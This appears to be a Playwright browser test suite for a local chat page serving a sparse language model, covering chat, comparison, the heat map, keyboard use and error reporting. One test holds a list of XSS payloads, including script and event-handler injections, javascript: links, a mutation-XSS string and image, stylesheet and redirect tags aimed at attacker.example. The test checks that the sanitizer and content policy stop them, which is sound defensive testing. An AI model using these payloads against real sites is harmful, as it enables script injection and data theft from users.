"""The chat page in a real browser: chat, sparsity, comparison, heat map, keyboard, no request to another host.

Answers that no model here would give (Markdown, hostile HTML, a connection that breaks) come from a route of the
browser.
"""

import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.server_process import Server, serving

playwright = pytest.importorskip("playwright.sync_api")
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium")


@pytest.fixture(scope="module")
def server(tiny_folder: Path) -> Iterator[Server]:
    with serving(tiny_folder, "--sparsity", "0.5", "--sparsities", "0.3", "--name", "tiny") as server:
        yield server


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright.sync_playwright() as browsers:
        browser = browsers.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def page(browser: Any, server: Server) -> Any:
    """One page through all tests that take it."""
    page = browser.new_page(viewport={"width": 1100, "height": 900}, color_scheme="dark", bypass_csp=True)
    open_page(page, server)
    return page


@pytest.fixture
def fresh(browser: Any, server: Server) -> Iterator[Any]:
    """A page in a browser that keeps nothing of other tests. Playwright needs its content security policy off."""
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    open_page(page, server)
    yield page
    context.close()


def open_page(page: Any, server: Server) -> None:
    """Load the page and keep what it complains about and asks for in page.problems and page.hosts."""
    page.problems, page.hosts = [], set()
    page.on("console", lambda message: page.problems.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: page.problems.append(str(error)))
    page.on("request", lambda request: page.hosts.add(request.url.split("/")[2]))
    page.goto(f"http://127.0.0.1:{server.port}/")
    page.wait_for_function("document.getElementById('model').textContent === 'tiny'")


def ask(page: Any, text: str) -> None:
    page.get_by_label("Message").fill(text)
    page.get_by_label("Message").press("Enter")
    page.wait_for_function("document.getElementById('status').textContent === 'Done.'", timeout=30_000)


def says(page: Any, text: str) -> None:
    """Wait until the status line holds text."""
    page.wait_for_function(
        f"document.getElementById('status').textContent.includes({json.dumps(text)})", timeout=30_000
    )


def answer_with(page: Any, text: str, ending: str = "data: [DONE]\n\n") -> None:
    """Let every answer from now on be text."""
    chunk = {"choices": [{"index": 0, "delta": {"content": text}, "finish_reason": None}]}
    body = f"data: {json.dumps(chunk)}\n\n{ending}"
    page.route("**/v1/chat/completions", lambda route: route.fulfill(content_type="text/event-stream", body=body))


def test_a_conversation_by_keyboard(page: Any) -> None:
    page.get_by_label("Tokens").fill("12")
    ask(page, "The European lobster")
    assert page.locator(".user").inner_text() == "The European lobster"
    assert page.locator(".answer").inner_text()
    assert "50% sparse · " in page.locator(".figures").inner_text() and "tok/s" in page.locator(".figures").inner_text()
    assert page.evaluate("document.activeElement.id") == "message"


def test_the_heat_map_shows_each_layer(page: Any) -> None:
    page.wait_for_selector("#map table")
    assert page.locator("#map tr").count() == 1 + 3
    assert page.locator("#map th").all_inner_texts()[:8] == ["layer", "q", "k", "v", "o", "gate", "up", "down"]
    shares = [int(text.rstrip("%")) for text in page.locator("#map td").all_inner_texts()]
    assert len(shares) == 3 * 7 and all(0 <= share <= 95 for share in shares) and 20 <= sum(shares) / 21 <= 70


def test_the_slider_and_the_comparison(page: Any) -> None:
    slider = page.get_by_label("Sparsity", exact=False).first
    slider.focus()
    slider.press("ArrowLeft")
    assert page.locator("#sparsity-value").inner_text() == "30%"
    page.get_by_label("compare with dense").check()
    page.get_by_role("button", name="New chat").click()
    ask(page, "Größe")
    figures = page.locator(".figures").all_inner_texts()
    assert [text.split(" ")[0] for text in figures] == ["0%", "30%"]


def test_it_stops_and_reports_errors(page: Any) -> None:
    page.get_by_label("compare with dense").uncheck()
    page.get_by_label("Tokens").fill("300")
    page.get_by_label("Message").fill("Москва")
    page.evaluate("document.getElementById('ask').requestSubmit(); document.getElementById('stop').click()")
    page.wait_for_function("document.getElementById('status').textContent === 'Stopped.'")
    page.get_by_label("Message").fill("x" * 3000)
    page.get_by_label("Message").press("Enter")
    page.wait_for_function("document.getElementById('status').textContent.includes('tokens; the context of 400')")


def test_nothing_is_wrong_with_the_page(page: Any) -> None:
    expected = "Failed to load resource: the server responded with a status of 400"
    assert [text for text in page.problems if not text.startswith(expected)] == []
    assert len(page.hosts) == 1
    unnamed = page.evaluate("""[...document.querySelectorAll('input, textarea, button')].filter(
        (node) => !node.textContent.trim() && !node.labels?.length && !node.ariaLabel).length""")
    assert unnamed == 0


def test_the_box_has_the_focus_at_load(fresh: Any) -> None:
    assert fresh.evaluate("document.activeElement.id") == "message"


def test_a_new_chat_during_an_answer_starts_empty(fresh: Any) -> None:
    asked: list[Any] = []
    fresh.on("request", lambda request: asked.append(request.post_data_json) if request.method == "POST" else None)
    fresh.get_by_label("Tokens").fill("300")
    fresh.get_by_label("Message").fill("The first chat")
    fresh.get_by_label("Message").press("Enter")
    fresh.wait_for_selector(".answer:not(:empty)")
    fresh.get_by_role("button", name="New chat").click()
    fresh.wait_for_timeout(300)
    assert fresh.locator(".turn").count() == 0 and fresh.locator("#status").inner_text() == ""
    fresh.get_by_label("Tokens").fill("4")
    ask(fresh, "The second chat")
    assert asked[-1]["messages"] == [{"role": "user", "content": "The second chat"}]


def test_a_refused_message_leaves_the_history(fresh: Any) -> None:
    asked: list[Any] = []
    fresh.on("request", lambda request: asked.append(request.post_data_json) if request.method == "POST" else None)
    fresh.get_by_label("Tokens").fill("4")
    fresh.get_by_label("Message").fill("x" * 3000)
    fresh.get_by_label("Message").press("Enter")
    says(fresh, "the context of 400")
    assert fresh.get_by_label("Message").input_value() == "x" * 3000  # to be made shorter
    ask(fresh, "short")
    assert asked[-1]["messages"] == [{"role": "user", "content": "short"}]


def test_it_does_not_scroll_while_one_reads_above(fresh: Any) -> None:
    answer_with(fresh, "line\n\n" * 60)
    ask(fresh, "long")
    at_end = (
        "(node => node.scrollHeight - node.scrollTop - node.clientHeight < 2)(document.getElementById('conversation'))"
    )
    assert fresh.evaluate(at_end)
    fresh.unroute("**/v1/chat/completions")
    fresh.get_by_label("Tokens").fill("300")
    fresh.get_by_label("Message").fill("on")
    fresh.get_by_label("Message").press("Enter")
    fresh.evaluate("document.getElementById('conversation').scrollTop = 10")
    says(fresh, "Done.")
    assert fresh.evaluate("document.getElementById('conversation').scrollTop") == 10


def test_a_reload_keeps_the_chat(fresh: Any) -> None:
    fresh.get_by_label("Tokens").fill("6")
    ask(fresh, "Remember")
    text = fresh.locator(".answer").inner_text()
    fresh.reload()
    assert fresh.locator(".user").inner_text() == "Remember" and fresh.locator(".answer").inner_text() == text
    asked: list[Any] = []
    fresh.on("request", lambda request: asked.append(request.post_data_json) if request.method == "POST" else None)
    ask(fresh, "And now")
    assert [message["role"] for message in asked[-1]["messages"]] == ["user", "assistant", "user"]


def test_a_wrong_key_says_so(browser: Any, tiny_folder: Path) -> None:
    with serving(tiny_folder, "--name", "tiny", "--api-key", "secret") as server:
        page = browser.new_context(bypass_csp=True).new_page()
        page.goto(f"http://127.0.0.1:{server.port}/")
        for key, title in (("wrong", "wants an API key"), ("secret", "This API key is wrong")):
            page.wait_for_function(f"document.getElementById('key-title').textContent.includes('{title}')")
            page.locator("#key").fill(key)
            page.get_by_role("button", name="Use it").click()
        page.wait_for_function("document.getElementById('model').textContent === 'tiny'")
        page.evaluate("sessionStorage.setItem('key', 'changed meanwhile')")
        page.get_by_label("Message").fill("x")
        page.get_by_label("Message").press("Enter")
        page.get_by_role("button", name="Cancel").click()
        says(page, "The API key is wrong.")
        page.context.close()


@pytest.mark.parametrize(
    ("ending", "says_"),
    [("", "ended the answer early"), ('data: {"error": {"message": "out of memory"}}\n\n', "out of memory")],
    ids=["ends", "error"],
)
def test_an_answer_that_breaks_off(fresh: Any, ending: str, says_: str) -> None:
    answer_with(fresh, "Some words", ending)
    fresh.get_by_label("Message").fill("x")
    fresh.get_by_label("Message").press("Enter")
    says(fresh, says_)
    assert fresh.locator(".answer").first.inner_text() == "Some words"


def test_a_dead_server_says_so(fresh: Any) -> None:
    fresh.route("**/v1/chat/completions", lambda route: route.abort("connectionrefused"))
    fresh.get_by_label("Message").fill("x")
    fresh.get_by_label("Message").press("Enter")
    says(fresh, "The server does not answer")
    assert fresh.get_by_label("Message").input_value() == "x"


def test_markdown_is_rendered(fresh: Any) -> None:
    answer_with(
        fresh,
        "# Fish\n\n- **cod**\n- [hake](https://example.org)\n\n"
        "```python\nif a < b:\n    pass\n```\n\n|a|b|\n|-|-|\n|1|2|\n",
    )
    ask(fresh, "x")
    answer = fresh.locator(".answer")
    assert answer.locator("h1").inner_text() == "Fish" and answer.locator("li strong").inner_text() == "cod"
    assert answer.locator("pre code").inner_text().rstrip() == "if a < b:\n    pass"
    assert answer.locator("td").all_inner_texts() == ["1", "2"]
    assert answer.locator("a").get_attribute("rel") == "noopener noreferrer"


HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "![x](https://attacker.example/leak?q=1)",
    "<img src='https://attacker.example/leak'>",
    "[x](javascript:window.hacked=1)",
    "<a href='javascript:window.hacked=1'>x</a>",
    "<svg onload='window.hacked = 1'><animate onbegin='window.hacked = 1'/></svg>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "<form action='https://attacker.example'><input name=q autofocus onfocus='window.hacked = 1'></form>",
    "<style>body { display: none }</style>",
    "<link rel=stylesheet href='https://attacker.example/a.css'>",
    "<base href='https://attacker.example/'>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
    "<div id=message style='position: fixed; inset: 0'>x</div>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hacked=1&gt;'>",
    "```html\n</code></pre><img src=x onerror=window.hacked=1>\n```",
    "<details open ontoggle='window.hacked = 1'>x</details>",
]


def test_hostile_answers_do_nothing(fresh: Any) -> None:
    for text in (*HOSTILE, "\n\n".join(HOSTILE)):
        fresh.unroute("**/v1/chat/completions")
        answer_with(fresh, text)
        ask(fresh, "x")
    fresh.locator(".answer a").first.click(force=True) if fresh.locator(".answer a[href]").count() else None
    fresh.reload()  # as kept, too
    fresh.wait_for_function("document.getElementById('model').textContent === 'tiny'")
    assert fresh.evaluate("window.hacked") is None
    tags = "script,img,svg,iframe,form,input,style,link,base,meta,math,details,div,[style],[id],[onerror],[onload]"
    assert fresh.locator(f":is({tags}):is(.answer *)").count() == 0
    assert {host for host in fresh.hosts if "attacker" in host} == set() and len(fresh.context.pages) == 1
    assert fresh.locator("#message").is_visible()


def test_the_policy_would_stop_what_the_sanitizer_missed(browser: Any, server: Server) -> None:
    page = browser.new_page()
    page.goto(f"http://127.0.0.1:{server.port}/")
    problems: list[str] = []
    page.on("console", lambda message: problems.append(message.text))
    page.evaluate("""() => {
        const node = document.createElement('div');
        node.innerHTML = '<img src="https://attacker.example/x" onerror="window.hacked = 1">';
        document.body.append(node);
    }""")
    page.wait_for_timeout(300)
    assert page.evaluate("() => window.hacked") is None
    assert any("img-src" in text for text in problems), problems
    page.close()


def test_the_comparison_marks_where_answers_part(fresh: Any) -> None:
    bodies = iter(["One **two** three", "One **two** four"])

    def fulfil(route: Any) -> None:
        chunk = {"choices": [{"index": 0, "delta": {"content": next(bodies)}, "finish_reason": None}]}
        route.fulfill(content_type="text/event-stream", body=f"data: {json.dumps(chunk)}\n\ndata: [DONE]\n\n")

    fresh.route("**/v1/chat/completions", fulfil)
    fresh.get_by_label("compare with dense").check()
    ask(fresh, "x")
    assert fresh.evaluate("[...CSS.highlights.get('differs')].map((range) => String(range).trim())") == ["four"]
